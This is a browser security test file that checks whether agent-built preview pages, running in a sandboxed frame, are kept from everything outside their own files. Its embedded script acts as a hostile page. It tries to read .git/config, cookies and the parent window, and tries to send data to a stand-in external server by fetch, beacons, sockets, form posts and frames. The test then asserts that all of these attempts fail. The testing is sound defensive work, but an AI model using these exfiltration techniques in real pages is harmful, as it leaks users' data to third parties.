// Pages that an agent made, in a frame of the window: they work, and reach nothing
// but the files beside them.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { agrees, project, withWorld } from "./real.mjs";

const PAGE = `<!doctype html><meta charset="utf-8"><link rel="stylesheet" href="game/lamp.css">
<body><h1 onclick="seen.handler = true">The lamp</h1><img src="game/dot.svg" alt="dot">
<script>window.seen = { inline: true }; document.querySelector("h1").click()</script>
<script src="game/classic.js"></script>
<script type="module" src="./game/module.js"></script>`;

// What the page does that works, and what a hostile one does: it asks the server, and
// sends what it knows to another address, in each way that a content policy can hold.
const script = (api, to) => `
import { light } from "./light.js";
const out = { module: light };
const tried = async (name, f) => { try { out[name] = await f() } catch (e) { out[name] = e.name } };
const loads = (tag, set) => new Promise((ok) => {
  const el = Object.assign(document.createElement(tag), set);
  el.onload = el.onloadeddata = () => ok("loaded");
  el.onerror = () => ok("refused");
  document.body.append(el);
});
await tried("own", async () => (await (await fetch("game/own.json")).json()).light);
await tried("missing", async () => (await fetch("nothing.txt")).status);
await tried("dot", async () => (await fetch(".git/config")).status);
await tried("worker", () => new Promise((ok) => { new Worker(URL.createObjectURL(new Blob(["postMessage(6*7)"]))).onmessage = (e) => ok(e.data); }));
await tried("storage", () => localStorage.length);
await tried("cookie", () => document.cookie);
await tried("parent", () => parent.document.title);
await tried("top", () => { top.location = "${to}/top"; return "gone" });
await tried("popup", () => open("${to}/popup"));
for (const at of ["${api}", "${to}"]) {
  const name = at === "${to}" ? "elsewhere " : "server ";
  await tried(name + "fetch", async () => (await fetch(at + "/projects", { headers: { Authorization: "Bearer x" } })).status);
  await tried(name + "blind", async () => (await fetch(at + "/projects", { mode: "no-cors", method: "POST", body: "x" })).type);
  await tried(name + "socket", () => new Promise((ok) => { const s = new WebSocket(at.replace("http", "ws")); s.onopen = () => ok("open"); s.onerror = () => ok("refused"); }));
  await tried(name + "events", () => new Promise((ok) => { const s = new EventSource(at + "/events"); s.onopen = () => ok("open"); s.onerror = () => ok("refused"); }));
  await tried(name + "module", () => import(at + "/vibey-client.js").then(() => "ran"));
  for (const [tag, set] of [["img", { src: at + "/favicon.ico" }], ["script", { src: at + "/vibey-client.js" }], ["link", { rel: "stylesheet", href: at + "/x.css" }], ["video", { src: at + "/x.mp4" }]]) await tried(name + tag, () => loads(tag, set));
  navigator.sendBeacon(at + "/beacon", "x");
  for (const [tag, set] of [["iframe", { src: at + "/frame" }], ["object", { data: at + "/object" }], ["link", { rel: "prefetch", href: at + "/prefetch" }]]) document.body.append(Object.assign(document.createElement(tag), set));
  const form = Object.assign(document.createElement("form"), { action: at + "/form", method: "post" });
  document.body.append(form);
  form.submit();
}
Object.assign(seen, out, { origin: self.origin, style: getComputedStyle(document.body).color, image: document.querySelector("img").naturalWidth });
document.title = "done";`;

const refused = (name) => ({
  [name + " fetch"]: "TypeError", [name + " blind"]: "TypeError", [name + " socket"]: "refused", [name + " events"]: "refused", [name + " module"]: "TypeError",
  [name + " img"]: "refused", [name + " script"]: "refused", [name + " link"]: "refused", [name + " video"]: "refused",
});

/** framed shows an address in a sandboxed frame of the window. */
async function framed(page, url) {
  await page.evaluate((src) => {
    const f = Object.assign(document.createElement("iframe"), { src, id: "deed" });
    f.setAttribute("sandbox", "allow-scripts");
    document.body.append(f);
  }, url);
  return (await page.waitForSelector("#deed")).contentFrame();
}

test("a page of the deed works in its frame, and reaches nothing else", async () => {
  const asked = [];
  const sink = createServer((r, w) => { asked.push(r.url); w.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end(); });
  await new Promise((ok) => sink.listen(0, "127.0.0.1", ok));
  const to = `http://127.0.0.1:${sink.address().port}`;
  try {
    await withWorld({ replies: [] }, async ({ world, page, context }) => {
      await project(page, "p");
      for (const [name, text] of Object.entries({
        "index.html": PAGE, ".git/config": "secret", "game/classic.js": "seen.classic = true", "game/lamp.css": "body{color:rgb(1,2,3)}", "game/light.js": "export const light = 'on'",
        "game/dot.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>', "game/own.json": '{"light":"on"}',
        "game/module.js": script(`http://${world.addr}`, to),
      })) world.write(text, "p", "deed", name);
      const { url } = await world.ask("GET", "/project/p/preview");
      await page.evaluate(() => { window.broken = []; addEventListener("securitypolicyviolation", (e) => window.broken.push(e.effectiveDirective)); });
      const frame = await framed(page, url);
      await agrees(() => frame.title(), "done");
      assert.deepEqual(await frame.evaluate(() => window.seen), {
        inline: true, handler: true, classic: true, module: "on", own: "on", missing: 404, dot: 404, worker: 42, style: "rgb(1, 2, 3)", image: 7,
        origin: "null", storage: "SecurityError", cookie: "SecurityError", parent: "SecurityError", top: "SecurityError", popup: null, ...refused("server"), ...refused("elsewhere"),
      });
      assert.deepEqual(await page.evaluate(() => window.broken), [], "the window's own policy");
      assert.equal(await page.title(), "p · Vibey");
      // The window's policy keeps the frame from being led elsewhere with what it knows.
      await frame.evaluate((to) => { setTimeout(() => { location.href = to + "/led?away"; }); }, to);
      await agrees(() => page.evaluate(() => window.broken), ["frame-src"]);
      // A tab of its own has no such policy around it.
      const tab = await context.newPage();
      assert.equal((await tab.goto(url)).status(), 403);
    }, { expect: /./, elsewhere: /^http:\/\/127\.0\.0\.1:\d+\// });
    assert.deepEqual(asked, []);
  } finally {
    sink.close();
  }
});
